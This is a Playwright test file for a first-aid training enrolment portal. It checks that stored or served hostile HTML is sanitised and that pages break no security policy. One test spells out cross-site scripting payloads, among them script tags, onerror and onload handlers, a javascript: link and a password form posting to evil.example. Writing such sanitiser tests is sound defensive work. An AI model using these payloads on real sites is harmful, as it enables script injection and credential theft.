import { expect, type Page } from '@playwright/test';
import { eq } from 'drizzle-orm';
import { classes } from '../server/src/catalogue/tables.ts';
import { intros, introTypes } from '../server/src/content/tables.ts';
import { approve } from '../server/src/enrolment/approve.ts';
import { registrations } from '../server/src/enrolment/tables.ts';
import { hostileHtml } from '../server/test/hostile-html.ts';
import { callAs, test } from './portal.ts';
import { field } from './registration-form.ts';
import { fact, guestScreens, logIn, traineeScreens, visit } from './screen.ts';

/** Everything that a page does against its policy, throws, says on the console or asks of strangers. */
const watch = async (page: Page): Promise<string[]> => {
  const faults: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => faults.push(`policy: ${text}`));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const { violatedDirective, blockedURI, sourceFile, lineNumber, sample } = event;
      const report = (window as unknown as { reportViolation: (text: string) => void }).reportViolation;
      report([violatedDirective, blockedURI, sourceFile, lineNumber, sample].join(' '));
    });
  });
  page.on('pageerror', (error) => faults.push(`error: ${error.message}`));
  page.on('dialog', async (dialog) => {
    faults.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('console', (message) => {
    const isExpected = /^Failed to load resource: the server responded with a status of 4(04|22)/.test(
      message.text(),
    );
    if (['error', 'warning'].includes(message.type()) && !isExpected)
      faults.push(`console: ${message.text()}`);
  });
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (protocol.startsWith('http') && host !== new URL(page.url()).host && page.url() !== 'about:blank') {
      faults.push(`request: ${request.url()}`);
    }
  });
  return faults;
};

test('no page does anything against the policy that it comes with', async ({ page, enterAsLin }) => {
  await enterAsLin();
  const faults = await watch(page);
  const main = page.getByRole('main');
  for (const address of traineeScreens) await visit(page, address);
  await page.goto('/Auth/PayRecord');
  await main
    .getByRole('button', { name: /取消 .* 的報名/ })
    .first()
    .click();
  await page.getByRole('alertdialog').getByRole('button', { name: '否' }).click();
  await page.getByRole('banner').getByRole('button', { name: '登出' }).click();
  await expect(page).toHaveURL('/');

  for (const address of guestScreens) await visit(page, address);
  await page.goto('/Register');
  await page.getByRole('button', { name: '開啟月曆' }).click();
  await page.getByRole('dialog').getByRole('gridcell').getByRole('button').first().click();
  await field(page, 'file').locator('input').setInputFiles('web/public/share.png');
  await expect(page.getByAltText('照片預覽')).toBeVisible();
  await page.goto('/login');
  await logIn(page, 'F299990019', 'wrong');
  await page.getByRole('alertdialog').getByRole('button', { name: '確定' }).click();
  expect(faults).toEqual([]);
});

/** What of the shown HTML is not on the list of what may be there. */
const survivors = (page: Page) =>
  page.evaluate(() => {
    const tags =
      'H3 H4 H5 P UL OL LI TABLE THEAD TBODY TR TH TD STRONG EM B I U BR HR BLOCKQUOTE A IMG'.split(' ');
    const own = '.rich-text-table, .rich-text-new-window';
    const isHarmless = ({ name, value }: Attr, element: Element) => {
      if (name === 'href')
        return (
          /^(https:\/\/|mailto:|tel:)/.test(value) || new URL(value, location.href).origin === location.origin
        );
      if (name === 'src') return /^\/pictures\/[\w-]+(\?w=\d+)?$/.test(value);
      if (['alt', 'width', 'height', 'loading'].includes(name)) return element.tagName === 'IMG';
      return element.tagName === 'A' && ['rel', 'target'].includes(name);
    };
    return [...document.querySelectorAll('.rich-text *')]
      .filter((element) => !element.matches(own))
      .filter(
        (element) =>
          !tags.includes(element.tagName) ||
          [...element.attributes].some((attribute) => !isHarmless(attribute, element)),
      )
      .map((element) => element.outerHTML.slice(0, 200));
  });

const openEverything = (page: Page) =>
  page
    .getByRole('main')
    .getByRole('button', { expanded: false })
    .evaluateAll((buttons) => {
      for (const button of buttons) if (button instanceof HTMLElement) button.click();
    });

const entries = hostileHtml.map((html, index) => ({ id: index + 1, title: `第 ${index + 1} 則`, html }));

const expectNoSurvivors = async (page: Page) => {
  await openEverything(page);
  await expect(page.locator('.rich-text')).toHaveCount(entries.length);
  expect(await survivors(page)).toEqual([]);
};

test('hostile HTML that stands in the database neither runs nor arrives', async ({ page, db }) => {
  const faults = await watch(page);
  const title = `測試類別 ${Date.now()} ${test.info().project.name}`;
  const [{ pictureKey = '' } = {}] = await db.select().from(introTypes).limit(1);
  const [{ id: typeId = 0 } = {}] = await db
    .insert(introTypes)
    .values({ title, pictureKey, position: 99 })
    .returning({ id: introTypes.id });
  try {
    await db.insert(intros).values(
      // PostgreSQL takes no NUL.
      entries.map((entry) => ({
        typeId,
        title: entry.title,
        html: entry.html.replaceAll('\0', ''),
        position: entry.id,
      })),
    );
    await visit(page, `/Intro/${title}`);
    await expectNoSurvivors(page);
    expect(faults).toEqual([]);
  } finally {
    await db.delete(intros).where(eq(intros.typeId, typeId));
    await db.delete(introTypes).where(eq(introTypes.id, typeId));
  }
});

test('hostile HTML that a server would let through neither runs nor is shown', async ({ page }) => {
  const faults = await watch(page);
  await page.route(/\/api\/Intros/, (route) =>
    route.fulfill({ json: { type: '急救訓練', details: entries } }),
  );
  await visit(page, '/Intro/急救訓練');
  await expectNoSurvivors(page);
  // Taking it apart, in a document that is never shown, is reported by the policy; that anything came of it is not.
  expect(faults.filter((fault) => !/^(policy|console): /.test(fault))).toEqual([]);
});

test('hostile HTML of a class shows its text alone, in the list, in the class and in the payment information', async ({
  page,
  request,
  db,
  trainee,
  openClass,
}) => {
  const hostile = (text: string) => `<p onclick="alert(1)" style="position:fixed;inset:0">${text}</p>
    <script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg><style>body{display:none}</style>
    <iframe srcdoc="<script>alert(1)</script>"></iframe><form action="https://evil.example"><input name=password></form>
    <a href="javascript:alert(1)">連結</a><base href="https://evil.example/"><object data="https://evil.example/x"></object>`;
  const opening = await openClass({ organization: '桃園市分會', trainClass: 'FA1' });
  await db
    .update(classes)
    .set({ html: hostile('課程簡介'), paidHtml: hostile('如何繳費'), info: hostile('其他注意') })
    .where(eq(classes.id, opening.id));
  await callAs(request, trainee, '/api/class/personal/create', opening);
  await db.transaction(async (tx) => {
    const [seat] = await tx.select().from(registrations).where(eq(registrations.classId, opening.id));
    await approve(tx, { registrationId: seat?.id ?? 0 }, { staffId: 1, organizationId: null }, new Date());
  });

  const faults = await watch(page);
  const main = page.getByRole('main');
  const expectTexts = async (texts: string[]) => {
    const shown = page.locator('.rich-text');
    await expect(shown).toHaveCount(texts.length);
    for (const [index, text] of texts.entries()) {
      await expect(shown.nth(index)).toContainText(text);
      await expect(shown.nth(index)).not.toContainText('alert');
    }
    expect(await survivors(page)).toEqual([]);
    expect(faults).toEqual([]);
  };

  await page.goto(`/ClassInfo?organization=${encodeURIComponent('桃園市分會')}&trainclass=FA1`);
  await main.getByRole('heading', { level: 3 }).filter({ hasText: opening.code }).getByRole('button').click();
  await expectTexts(['課程簡介']);
  await page.goto(`/ClassInfo/${opening.code}`);
  await expectTexts(['課程簡介']);
  await expect(main.getByText('連結')).not.toHaveAttribute('href');
  await page.goto(`/Class/Personal/${opening.code}/finish`);
  await expect(fact(main, '課程代碼')).toHaveText(opening.code);
  await expectTexts(['如何繳費', '其他注意']);
});
